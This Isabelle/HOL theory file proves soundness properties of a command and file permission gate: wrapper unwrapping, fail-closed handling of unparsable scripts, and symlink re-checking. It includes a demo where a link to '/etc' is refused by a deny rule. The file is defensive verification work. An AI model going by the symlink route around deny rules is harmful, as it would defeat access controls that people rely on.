  shows "(\<exists>w. runs env False MAX_INLINE_SHELL_DEPTH cmd w) \<and>
    (\<forall>w. runs env False MAX_INLINE_SHELL_DEPTH cmd w \<longrightarrow>
       clean_peel (normalize_command_words w) \<and>
       bash_words_allowed env pol ScopeAny (nc_words (normalize_command_words w))) \<and>
    \<not> some_rule env pol (AccBash cmd :: 'j access_kind) None RuleDeny \<and>
    \<not> some_rule env pol (AccBash cmd :: 'j access_kind) None RuleAsk"
proof -
  let ?a = "AccBash cmd :: 'j access_kind"
  have e: "evaluate_lexical_with_cwd env pol ?a None = Some Allow" using assms by (simp add: evaluate_bash)
  have nd: "\<not> some_rule env pol ?a None RuleDeny" using e evaluate_lexical_deny[of env pol ?a None] by fastforce
  then have na: "\<not> some_rule env pol ?a None RuleAsk"
    and chain: "bash_chain_fully_allowed env pol ScopeAny MAX_INLINE_SHELL_DEPTH cmd"
    using e by (auto simp: evaluate_lexical_no_deny split: if_splits)
  show ?thesis using nd na chain_has_command[OF chain] chain_runs[OF _ chain] by metis
qed

text \<open>
  Narrow rules authorise less than all rules: when they authorise a command, the chain is fully
  allowed, and no command it runs is headed by a program that executes code handed to it.
\<close>

lemma narrow_allow_sound:
  assumes "narrow_allow_authorizes env pol (AccBash cmd :: 'j access_kind)"
  shows "bash_chain_fully_allowed env pol ScopeAny MAX_INLINE_SHELL_DEPTH cmd \<and>
    (\<forall>w. runs env False MAX_INLINE_SHELL_DEPTH cmd w \<longrightarrow>
       \<not> head_is_exec_vehicle (nc_words (normalize_command_words w)))"
proof -
  have c: "bash_chain_fully_allowed env pol NarrowOnly MAX_INLINE_SHELL_DEPTH cmd"
    using assms by (simp add: narrow_allow_authorizes_def)
  show ?thesis using narrow_chain_any[OF c] chain_runs[OF _ c] narrow_words_any by blast
qed

text \<open>
  C8. The gate sees every command: when the policy restricts commands, the gate on a script is at least
  as strict as the rules are on every command the script runs, as written and with its wrappers taken off;
  a doubtful command, and a script that cannot be decomposed, is never let through in silence.
\<close>

theorem gate_covers_commands:
  assumes "cp_has_bash_command_restrictions pol" "runs env True MAX_INLINE_SHELL_DEPTH cmd w"
    "form = w \<or> form = nc_words (normalize_command_words w)"
  shows "(\<forall>r. evaluate env pol (AccBash (join [32] form) :: unit access_kind) = Some (Reject r) \<longrightarrow>
       (\<exists>r'. evaluate_bash_command_gate env pol cmd = Some (GReject r'))) \<and>
    (evaluate env pol (AccBash (join [32] form) :: unit access_kind) = Some Ask \<longrightarrow>
       (\<exists>r'. evaluate_bash_command_gate env pol cmd = Some (GReject r')) \<or>
       evaluate_bash_command_gate env pol cmd = Some AskRuleMatch) \<and>
    (\<not> clean_peel (normalize_command_words w) \<longrightarrow> evaluate_bash_command_gate env pol cmd \<noteq> None) \<and>
    (all_commands_from_script (pe_parse env) s = None \<longrightarrow> evaluate_bash_command_gate env pol s = Some AskFailClosed)"
proof -
  let ?g = "evaluate_bash_command_gate env pol cmd"
  have gate: "evaluate_bash_command_gate env pol x = evaluate_bash_command_segments env pol MAX_INLINE_SHELL_DEPTH x" for x
    using assms(1) by (simp add: evaluate_bash_command_gate_def)
  note floor = gate_floor[OF assms]
  have "(\<exists>r'. ?g = Some (GReject r')) \<or> ?g = Some AskRuleMatch"
    if "evaluate env pol (AccBash (join [32] form) :: unit access_kind) = Some Ask"
    using floor(1) that unfolding gate_orank_iff(2)[symmetric] by (simp add: escalate_def orank_def gate_rank_def)
  moreover have "?g \<noteq> None" if "\<not> clean_peel (normalize_command_words w)"
    using floor(2)[OF that] unfolding gate_orank_iff(3)[symmetric] .
  moreover have "evaluate_bash_command_gate env pol s = Some AskFailClosed"
    if "all_commands_from_script (pe_parse env) s = None"
    using that unfolding gate segments_step[of env pol MAX_INLINE_SHELL_DEPTH] by (simp add: gate_segments_def)
  ultimately show ?thesis using gate_rejects[OF assms] by blast
qed

text \<open>
  C24. Following symbolic links only escalates: the decision is never weaker than the lexical one, it
  allows only what the lexical one allows, and a denial of the link's target denies the access.
\<close>

theorem symlink_recheck_escalates:
  "orank decision_rank (evaluate_lexical_with_cwd env pol access cwd) \<le>
     orank decision_rank (evaluate_with_cwd env pol access cwd) \<and>
   (evaluate_with_cwd env pol access cwd = Some Allow \<longrightarrow>
     evaluate_lexical_with_cwd env pol access cwd = Some Allow) \<and>
   (native_file_path access = Some path \<and> raw_absolute_tool_path path cwd = Some raw \<and>
     follow_absolute_symlink env raw (path_match_string (absolute_normalized_path path cwd)) = FollowTarget t \<and>
     evaluate_lexical_with_cwd env pol (access_with_path access t) cwd = Some (Reject r) \<longrightarrow>
     orank decision_rank (evaluate_with_cwd env pol access cwd) = 4)"
proof -
  let ?l = "evaluate_lexical_with_cwd env pol access cwd"
  let ?e = "evaluate_with_cwd env pol access cwd"
  have cases: "?e = ?l \<or> (\<exists>d. ?e = combine_decisions ?l (Some d) \<and> (d = Ask \<or> (\<exists>r. d = Reject r)))"
    unfolding evaluate_with_cwd_def evaluate_with_cwd_details_def Let_def
    by (auto simp: plain.combine_None2 split: option.splits symlink_follow.splits decision.splits)
  have le: "orank decision_rank ?l \<le> orank decision_rank ?e"
    using cases by (auto simp: plain.orank_combine)
  have allow: "?l = Some Allow" if "?e = Some Allow"
    using cases that combine_allow by metis
  have bound: "orank decision_rank ?l \<le> 4" by (auto simp: orank_def decision_rank_def split: option.splits decision.splits)
  have "orank decision_rank ?e = 4"
    if "native_file_path access = Some path" "raw_absolute_tool_path path cwd = Some raw"
      "follow_absolute_symlink env raw (path_match_string (absolute_normalized_path path cwd)) = FollowTarget t"
      "evaluate_lexical_with_cwd env pol (access_with_path access t) cwd = Some (Reject r)"
  proof -
    have "?e = combine_decisions ?l (Some (Reject r))"
      using that by (simp add: evaluate_with_cwd_def evaluate_with_cwd_details_def Let_def)
    moreover have "orank decision_rank (Some (Reject r)) = 4" by (simp add: orank_def decision_rank_def)
    ultimately show ?thesis using bound by (simp add: plain.orank_combine)
  qed
  with le allow show ?thesis by blast
qed


text \<open>
  A relative spelling is offered to the rules only for a path below the working directory: any form
  of a path that does not start with a slash is a relative one of a path whose normalised components extend
  those of the directory by proper names; a tilde path is offered as it is written, and only so.
\<close>

lemma path_forms_contained:
  assumes "is_absolute cwd" "form \<in> set (path_match_forms path (Some cwd))" "\<not> starts_with form [SLASH]"
  shows "if is_tilde_path path then form = path_match_string path
    else \<exists>names. components (absolute_normalized_path path (Some cwd)) =
           components (normalize_lexically cwd) @ map Normal names"
proof (cases "is_tilde_path path")
  case True
  then show ?thesis using assms(2) tilde_forms[OF True assms(1)] by simp
next
  case False
  let ?abs = "absolute_normalized_path path (Some cwd)"
  have abs: "?abs = normalize_lexically (joined_path path (Some cwd))" using False by (simp add: absolute_normalized_path_def)
  obtain ns where ns: "components ?abs = RootDir # map Normal ns"
    using normalize_absolute[OF joined_absolute[OF assms(1)]] abs by metis
  obtain ms where ms: "components (normalize_lexically cwd) = RootDir # map Normal ms"
    using normalize_absolute[OF assms(1)] by metis
  have "starts_with (path_match_string ?abs) [SLASH]"
    using ns components_absolute match_string_absolute by blast
  then obtain rel where rel: "path_strip_prefix ?abs (normalize_lexically cwd) = Some rel"
    using assms(2,3) by (auto simp: path_match_forms_def Let_def split: option.splits)
  have "components ?abs = components (normalize_lexically cwd) @ components rel"
    by (rule components_strip_prefix[OF rel]) (simp add: ms)
  moreover from this ns ms have "map Normal ns = map Normal ms @ components rel" by simp
  then have "\<exists>names. components rel = map Normal names" by (metis map_eq_append_conv)
  ultimately show ?thesis using False by auto
qed

section \<open>A small policy\<close>

definition demo_env :: "ustr policy_env" where
  "demo_env = \<lparr>pe_glob_new = Some, pe_glob_match = (\<lambda>p _ s. s = p), pe_url_host = (\<lambda>_. None),
     pe_lower = map ascii_lower, pe_parse = and_parse,
     pe_canonicalize = (\<lambda>p. if p = lit ''/link'' then Some (lit ''/etc'') else None),
     pe_symlink_metadata = (\<lambda>_. StatNotFound), pe_read_link = (\<lambda>_. None)\<rparr>"

definition demo_rule :: "rule_action \<Rightarrow> tool_filter \<Rightarrow> string \<Rightarrow> permission_rule" where
  "demo_rule a f p = \<lparr>rule_action = a, rule_tool = f, rule_pattern = Some (lit p), rule_pattern_mode = Glob\<rparr>"

definition demo_policy :: "permission_rule list \<Rightarrow> ustr compiled_policy" where
  "demo_policy rules = compiled_policy_new demo_env (permission_config_new rules)"

definition allow_both :: "permission_rule list" where
  "allow_both = [demo_rule RuleAllow FBash ''a'', demo_rule RuleAllow FBash ''b'']"

definition deny_second :: "permission_rule list" where
  "deny_second = [demo_rule RuleAllow FBash ''a'', demo_rule RuleDeny FBash ''b'']"

lemma demo_commands:
  "all_commands_from_script (pe_parse demo_env) (lit ''a&&b'') =
     Some [\<lparr>pl_words = [lit ''a''], pl_span_start = 0, pl_span_end = 1\<rparr>,
           \<lparr>pl_words = [lit ''b''], pl_span_start = 3, pl_span_end = 4\<rparr>]"
  by (simp add: demo_env_def tree_eval)

lemma normalize_plain:
  assumes "strip_wrapper_command ws = None" "head_name ws \<noteq> Some (lit ''env'')" "strip_transparent_prefix ws = NotPrefix"
  shows "normalize_command_words ws =
    \<lparr>nc_words = ws, nc_has_chdir = False, nc_has_split_string = False,
     nc_env_options_uncertain = False, nc_exhausted = False, nc_ambiguous = False\<rparr>"
proof -
  obtain a b c where m: "MAX_WRAPPER_DEPTH = Suc a" "MAX_TRANSPARENT_PREFIX_DEPTH = Suc b" "MAX_NORMALIZE_ROUNDS = Suc c"
    by (simp add: MAX_WRAPPER_DEPTH_def MAX_TRANSPARENT_PREFIX_DEPTH_def MAX_NORMALIZE_ROUNDS_def)
  have u: "unwrap_wrappers_checked ws = \<lparr>cw_words = ws, cw_has_chdir = False, cw_has_split_string = False,
      cw_env_options_uncertain = False, cw_exhausted = False\<rparr>"
    using assms unfolding unwrap_wrappers_checked_def m(1) by (simp add: Let_def)
  have "peel_transparent_prefixes ws = Some ws" using assms(3) unfolding peel_transparent_prefixes_def m(2) by simp
  with u assms show ?thesis unfolding normalize_command_words_def m(3) by (simp add: Let_def)
qed

lemma plain_name:
  assumes "last_segment w = w" "w \<notin> set (map lit [''timeout'', ''nice'', ''ionice'', ''chrt'', ''stdbuf'', ''env''])"
    "w \<notin> set (map lit [''exec'', ''command'', ''builtin''])"
  shows "normalize_command_words [w] =
    \<lparr>nc_words = [w], nc_has_chdir = False, nc_has_split_string = False,
     nc_env_options_uncertain = False, nc_exhausted = False, nc_ambiguous = False\<rparr>"
proof (rule normalize_plain)
  have "wrapper_start w [w] = None" using assms(2) wrapper_start_head by (cases "wrapper_start w [w]") blast+
  then show "strip_wrapper_command [w] = None" using assms(1) by (simp add: strip_wrapper_command_def head_name_def)
qed (use assms in \<open>simp_all add: head_name_def strip_transparent_prefix_def\<close>)

lemma demo_last: "last_segment (lit ''a'') = lit ''a''" "last_segment (lit ''b'') = lit ''b''"
  by (simp_all add: last_segment_def lit_def)

lemma demo_words:
  shows "normalize_command_words [lit ''a''] =
    \<lparr>nc_words = [lit ''a''], nc_has_chdir = False, nc_has_split_string = False,
     nc_env_options_uncertain = False, nc_exhausted = False, nc_ambiguous = False\<rparr>"
    "normalize_command_words [lit ''b''] =
    \<lparr>nc_words = [lit ''b''], nc_has_chdir = False, nc_has_split_string = False,
     nc_env_options_uncertain = False, nc_exhausted = False, nc_ambiguous = False\<rparr>"
  by (simp_all add: plain_name demo_last lit_inject)

lemma demo_not_inline:
  "shell_dash_c_script [SWLiteral (lit ''a'')] = NotInline" "shell_dash_c_script [SWLiteral (lit ''b'')] = NotInline"
  "\<not> head_is_exec_vehicle [lit ''a'']" "\<not> head_is_exec_vehicle [lit ''b'']"
proof -
  show "shell_dash_c_script [SWLiteral (lit ''a'')] = NotInline" "shell_dash_c_script [SWLiteral (lit ''b'')] = NotInline"
    by (simp_all add: shell_dash_c_script_def demo_last lit_inject)
  have h: "normalized_command_head [lit ''a''] = Some (lit ''a'')" "normalized_command_head [lit ''b''] = Some (lit ''b'')"
    by (simp_all add: normalized_command_head_def demo_last) (simp_all add: lit_def ascii_lower_def strip_suffix_def)
  have "strip_prefix f (lit ''a'') = None \<and> strip_prefix f (lit ''b'') = None" if "f \<in> set EXEC_VEHICLE_HEAD_FAMILIES" for f
    using that by (auto simp: EXEC_VEHICLE_HEAD_FAMILIES_def lit_def)
  then show "\<not> head_is_exec_vehicle [lit ''a'']" "\<not> head_is_exec_vehicle [lit ''b'']"
    by (auto simp: head_is_exec_vehicle_def h list_ex_iff EXEC_VEHICLE_HEADS_def lit_inject)
qed

lemma demo_text: "trim_start (lit ''a'') = lit ''a''" "trim_start (lit ''b'') = lit ''b''" "trim (lit ''a'') = lit ''a''"
  "trim (lit ''b'') = lit ''b''" "trim_start (lit ''a&&b'') = lit ''a&&b''" "lit ''a'' \<noteq> []" "lit ''b'' \<noteq> []"
  by (simp_all add: lit_def str_eval)

lemma demo_prefix: "matches_command_prefix (lit ''a'') (lit ''a'')" "matches_command_prefix (lit ''b'') (lit ''b'')"
  by (simp_all add: matches_command_prefix_def)

lemma demo_probe: "\<not> rule_is_catchall demo_env (demo_rule act FBash ''a'')" "\<not> rule_is_catchall demo_env (demo_rule act FBash ''b'')"
  by (simp_all add: rule_is_catchall_def demo_rule_def bash_probes_def pattern_matches_def compile_matcher_def lit_inject)
    (simp_all add: lit_def str_eval starts_with_def glob_matches_def demo_env_def)

lemma demo_allowed:
  "bash_words_allowed demo_env (demo_policy allow_both) scope [lit ''a'']"
  "bash_words_allowed demo_env (demo_policy allow_both) scope [lit ''b'']"
  unfolding bash_words_allowed_def demo_policy_def zip_compiled
  by (simp_all add: demo_not_inline permission_config_new_def allow_both_def demo_probe)
    (simp_all add: demo_rule_def bash_allow_pattern_matches_def bash_command_matches_pattern_def demo_text demo_prefix)

lemma demo_chain: "bash_chain_fully_allowed demo_env (demo_policy allow_both) scope n (lit ''a&&b'')"
  unfolding chain_step[of demo_env "demo_policy allow_both" scope n]
  by (simp add: chain_allowed_def demo_commands segment_allowed_def demo_words demo_not_inline demo_allowed)

lemma demo_has_allow: "cp_has_bash_allow_rules (demo_policy allow_both)"
  by (simp add: demo_policy_def compiled_policy_new_def permission_config_new_def allow_both_def demo_rule_def)

lemma demo_no_restriction:
  "\<not> some_rule demo_env (demo_policy allow_both) access cwd RuleDeny" "\<not> some_rule demo_env (demo_policy allow_both) access cwd RuleAsk"
  by (simp_all add: some_rule_def demo_policy_def zip_compiled permission_config_new_def allow_both_def demo_rule_def applies_def)

lemma demo_allow: "evaluate demo_env (demo_policy allow_both) (AccBash (lit ''a&&b'') :: unit access_kind) = Some Allow"
  by (simp add: evaluate_bash evaluate_lexical_no_deny[OF demo_no_restriction(1)] demo_no_restriction demo_has_allow demo_chain)

theorem bash_allow_conjunctive_witness:
  "\<exists>w. runs demo_env False MAX_INLINE_SHELL_DEPTH (lit ''a&&b'') w \<and>
    bash_words_allowed demo_env (demo_policy allow_both) ScopeAny (nc_words (normalize_command_words w))"
  using bash_allow_conjunctive[OF demo_allow] by blast

lemma narrow_allow_sound_witness:
  "bash_chain_fully_allowed demo_env (demo_policy allow_both) ScopeAny MAX_INLINE_SHELL_DEPTH (lit ''a&&b'')"
proof -
  have "narrow_allow_authorizes demo_env (demo_policy allow_both) (AccBash (lit ''a&&b'') :: unit access_kind)"
    by (simp add: narrow_allow_authorizes_def demo_has_allow demo_chain)
  from narrow_allow_sound[OF this] show ?thesis by blast
qed

lemma demo_deny_b:
  "evaluate demo_env (demo_policy deny_second) (AccBash (lit ''b'') :: unit access_kind) =
     Some (Reject (deny_reason (demo_rule RuleDeny FBash ''b'')))"
  unfolding evaluate_bash evaluate_lexical_with_cwd_def demo_policy_def zip_compiled
  by (simp add: permission_config_new_def deny_second_def demo_rule_def rule_reaches_def tool_filter_matches_def
      pattern_matches_def demo_text lit_inject)
    (simp add: lit_def starts_with_def glob_matches_def compile_matcher_def demo_env_def)

theorem gate_covers_commands_witness:
  "\<exists>r. evaluate_bash_command_gate demo_env (demo_policy deny_second) (lit ''a&&b'') = Some (GReject r)"
proof -
  have res: "cp_has_bash_command_restrictions (demo_policy deny_second)"
    by (simp add: demo_policy_def compiled_policy_new_def permission_config_new_def deny_second_def demo_rule_def restricts_def)
  have "runs demo_env True MAX_INLINE_SHELL_DEPTH (lit ''a&&b'') (pl_words \<lparr>pl_words = [lit ''b''], pl_span_start = 3, pl_span_end = 4\<rparr>)"
    by (rule runs.segment[OF demo_commands]) simp
  then have run: "runs demo_env True MAX_INLINE_SHELL_DEPTH (lit ''a&&b'') [lit ''b'']" by simp
  show ?thesis using gate_covers_commands[OF res run, of "[lit ''b'']" "[]"] demo_deny_b by auto
qed

lemma evaluate_order_independent_witness:
  "orank decision_rank (evaluate_lexical_with_cwd demo_env (compiled_policy_new demo_env (permission_config_new (rev deny_second)))
     (AccBash (lit ''b'') :: unit access_kind) None) = 4"
proof -
  have "set (pc_rules (permission_config_new deny_second)) = set (pc_rules (permission_config_new (rev deny_second)))"
    by (simp add: permission_config_new_def)
  from evaluate_order_independent[OF this, of demo_env "AccBash (lit ''b'') :: unit access_kind" None] demo_deny_b
  show ?thesis by (simp add: evaluate_bash demo_policy_def orank_def decision_rank_def)
qed

lemma evaluate_precedence_witness:
  "evaluate_lexical_with_cwd demo_env (demo_policy allow_both) (AccBash (lit ''a&&b'') :: unit access_kind) None = Some Allow"
  using evaluate_precedence[of demo_env "demo_policy allow_both" "AccBash (lit ''a&&b'') :: unit access_kind" None]
  by (simp add: demo_no_restriction demo_has_allow demo_chain)


lemmas path_eval = lit_def is_tilde_path_def components_def lead_components_def body_components_def body_segs_def
  path_lead_def is_absolute_def starts_with_def trivial_seg_def seg_component_def absolute_normalized_path_def
  joined_path_def path_join_def normalize_lexically_def norm_components_def norm_step_def collect_path_def
  component_str_def path_match_string_def

lemma demo_form: "lit ''./b'' \<in> set (path_match_forms (lit ''a/../b'') (Some (lit ''/w'')))"
  by (simp add: path_match_forms_def path_strip_prefix_def trim_right_segs_def path_eval Let_def)

lemma path_forms_contained_witness:
  "\<exists>names. components (absolute_normalized_path (lit ''a/../b'') (Some (lit ''/w''))) =
     components (normalize_lexically (lit ''/w'')) @ map Normal names"
proof -
  have "is_absolute (lit ''/w'')" "\<not> starts_with (lit ''./b'') [SLASH]" "\<not> is_tilde_path (lit ''a/../b'')"
    by (simp_all add: path_eval)
  with path_forms_contained[OF _ demo_form] show ?thesis by simp
qed

definition deny_etc :: "permission_rule list" where
  "deny_etc = [demo_rule RuleDeny FRead ''/etc'']"

theorem symlink_recheck_escalates_witness:
  "orank decision_rank (evaluate_with_cwd demo_env (demo_policy deny_etc)
     (AccRead (Some (lit ''/link'')) :: unit access_kind) None) = 4"
proof -
  let ?a = "AccRead (Some (lit ''/link'')) :: unit access_kind"
  have "raw_absolute_tool_path (lit ''/link'') None = Some (lit ''/link'')"
    by (simp add: raw_absolute_tool_path_def path_eval)
  moreover have "resolve_symlink_target demo_env (lit ''/link'') = Some (lit ''/etc'')"
    by (simp add: resolve_symlink_target_def resolve_following_symlinks_def demo_env_def path_eval)
  then have "follow_absolute_symlink demo_env (lit ''/link'')
      (path_match_string (absolute_normalized_path (lit ''/link'') None)) = FollowTarget (lit ''/etc'')"
    by (simp add: follow_absolute_symlink_def path_eval)
  moreover have "evaluate_lexical_with_cwd demo_env (demo_policy deny_etc) (access_with_path ?a (lit ''/etc'')) None =
      Some (Reject (deny_reason (demo_rule RuleDeny FRead ''/etc'')))"
    unfolding evaluate_lexical_with_cwd_def demo_policy_def zip_compiled
    by (simp add: permission_config_new_def deny_etc_def demo_rule_def rule_reaches_def tool_filter_matches_def
        pattern_matches_def access_with_path_def path_context_matches_def path_match_forms_def)
      (simp add: path_eval glob_matches_def compile_matcher_def demo_env_def path_has_parent_dir_def)
  ultimately show ?thesis
    using symlink_recheck_escalates[of demo_env "demo_policy deny_etc" ?a None "lit ''/link''" "lit ''/link''" "lit ''/etc''"]
    by (simp add: native_file_path_def)
qed

end
